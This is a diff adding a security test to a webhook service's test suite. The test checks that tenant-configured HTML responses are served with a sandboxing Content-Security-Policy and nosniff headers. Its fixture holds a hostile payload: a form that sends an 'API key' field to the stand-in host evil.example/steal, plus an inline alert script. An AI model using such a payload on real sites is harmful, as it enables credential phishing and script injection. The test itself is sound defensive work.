@@ -345,6 +345,29 @@ describe('acknowledgements providers expect (SQLite)', () => {
     expect(deferred.json).toEqual({ type: 5 });
   });
 
+  it('whatever a source answers runs no script on Eventhook’s origin, the console’s: sandboxed, never sniffed', async () => {
+    // A tenant's admin chooses the answer; anyone's browser can be made to POST a form to the ingest URL.
+    await createSource(t, {
+      slug: 'page',
+      verifier: { type: 'none' },
+      response: {
+        contentType: 'text/html',
+        body: '<form action="https://evil.example/steal"><input name="key" placeholder="API key"></form><script>alert(1)</script>',
+      },
+    });
+    const form = { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a=1' };
+    const page = await deliver(t, 'page', form);
+    expect([page.status, page.headers.get('content-type')]).toEqual([200, 'text/html']);
+    const handshake = await deliver(t, 'page', { method: 'GET' });
+    const refused = await deliver(t, 'nope', form);
+    for (const res of [page, handshake, refused]) {
+      const csp = res.headers.get('content-security-policy') ?? '';
+      // A sandbox without allow-scripts and allow-forms: an opaque origin, no script, no form sent anywhere.
+      expect(csp.split(/;\s*/)).toEqual(expect.arrayContaining(["default-src 'none'", 'sandbox']));
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    }
+  });
+
   it('refuses responses that would not acknowledge (non-2xx) at save time', async () => {
     const res = await t.api.post('/api/orgs/default/eventhook/sources', {
       slug: 'bad-response',
